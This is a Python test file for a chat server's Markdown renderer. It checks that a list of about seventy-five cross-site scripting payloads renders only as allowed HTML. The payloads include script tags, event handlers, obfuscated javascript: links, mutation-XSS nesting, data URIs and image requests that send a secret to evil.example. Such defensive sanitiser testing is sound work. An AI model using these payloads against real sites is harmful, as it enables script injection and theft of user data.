"""The server's Markdown: the shared corpus, attacks, and texts made to be slow."""

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat.markdown import render_markdown
from tests.rendered import as_tree

CORPUS = json.loads((Path(__file__).parent / "golden" / "markdown" / "corpus.json").read_text())

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example>",
    "<object data=https://evil.example>",
    "<embed src=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example>",
    "<style>@import 'https://evil.example'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=x></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<img src=https://evil.example/?d=secret>",
    "<div style=background:url(https://evil.example)>",
    "</p><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/admin/logout/)",
    "[x](blob:https://evil.example/1)",
    "[x](https://a.example' onmouseover='alert(1))",
    '[x](https://a.example" onmouseover="alert(1))',
    "[x](https://a.example 'title\" onmouseover=\"alert(1)')",
    "[x](https://a.example\u202e)",
    "![x](https://evil.example/?d=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x](x "onerror=alert(1)")',
    "![<img src=x onerror=alert(1)>](https://a.example)",
    "[![x](https://evil.example/i.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://a.example/"onmouseover=alert(1)>',
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/<script>alert(1)</script>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "```<script>alert(1)</script>\nx\n```",
    "```html onload=alert(1)\nx\n```",
    '```" onmouseover="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "\u2aa6script>alert(1)\u2aa6/script>",
    "<scr\u2e5dipt>alert(1)</scr\u2e5dipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)</script>",
    "$<img src=x onerror=alert(1)>$ and $$<script>alert(1)</script>$$",
    "$$\n</div><script>alert(1)</script>\n$$",
    "\\(</span><svg onload=alert(1)>\\) \\[\\href{javascript:alert(1)}{x}\\]",
    "[^1<script>]: <img src=x onerror=alert(1)>",
    'text[^x" onmouseover="alert(1)]\n\n[^1]: [x](javascript:alert(1))',
    '![x](https://evil.example"onload=alert(1)/i.png)',
]
ALLOWED = {
    "a": {"href", "class", "id", "target", "rel", "aria-label", "data-host"},
    "button": {"type", "class", "data-action"},
    "code": {"dir", "class"},
    "div": {"class", "dir", "tabindex", "role", "aria-label"},
    "figcaption": {"class"},
    "figure": {"class", "aria-label"},
    "ol": {"start", "dir"},
    "pre": {"dir", "tabindex", "role", "aria-label", "class"},
    "span": {"class", "id", "dir", "role", "aria-label"},
    "sup": {"class"},
    "td": {"class"},
    "th": {"class"},
}
WITH_DIRECTION = {"p", "blockquote", "ul", "h3", "h4", "h5", "h6"}
PLAIN = {"br", "em", "hr", "li", "s", "strong", "table", "tbody", "thead", "tr"}


class Inspector(HTMLParser):
    """Fails at the first element, attribute or address that is not allowed."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        allowed = ALLOWED.get(tag, {"dir"} if tag in WITH_DIRECTION else set())
        assert tag in ALLOWED or tag in WITH_DIRECTION or tag in PLAIN, tag
        for name, value in attrs:
            assert name in allowed, (tag, name)
            if name == "href":
                assert re.match(r"(?i)(https?://|mailto:|#(note|ref)-\w+$)", value or ""), value
            if name == "id":
                assert re.fullmatch(r"(note|ref)-\w+", value or ""), value
            if name == "rel":
                assert value == "noopener noreferrer nofollow"

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)


def inspect(html: str) -> None:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()


def test_tasks_and_notes_are_read_by_name() -> None:
    drawn = render_markdown("- [x] one\n- [ ] two[^1]\n\n[^1]: three")

    names = re.findall('aria-label="([^"]*)"', drawn)
    assert names == ["Done", "Not done", "Note 1", "Note 1, back to the text"]


@pytest.mark.parametrize("entry", CORPUS, ids=lambda entry: str(entry["name"]))
def test_the_server_draws_the_corpus(entry: dict[str, Any]) -> None:
    assert as_tree(render_markdown(entry["markdown"])) == entry["dom"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_stays_text(attack: str) -> None:
    inspect(render_markdown(attack))
    inspect(render_markdown(f"**a** {attack} b\n\n{attack}"))


@given(st.text(alphabet=st.sampled_from("$^1<>[]()!*_`~|#-&;:/\\\"'= \nahref줄"), max_size=60))
def test_no_text_becomes_anything_else_than_allowed(text: str) -> None:
    inspect(render_markdown(text))


@pytest.mark.slow
@pytest.mark.parametrize(
    "piece",
    [
        *("[", "*", "> ", "**a", "`", "- ", "![", "<", "&", "|", "~~", "1. ", "[a](", "<https://", "*가"),
        *("$", "$$", "$a", "\\(", "\\[", "[^1]", "[^1]: a\n", "$$\n"),
    ],
)
def test_ten_thousand_times_the_same_is_drawn_without_trouble(piece: str) -> None:
    inspect(render_markdown(piece * 10_000))
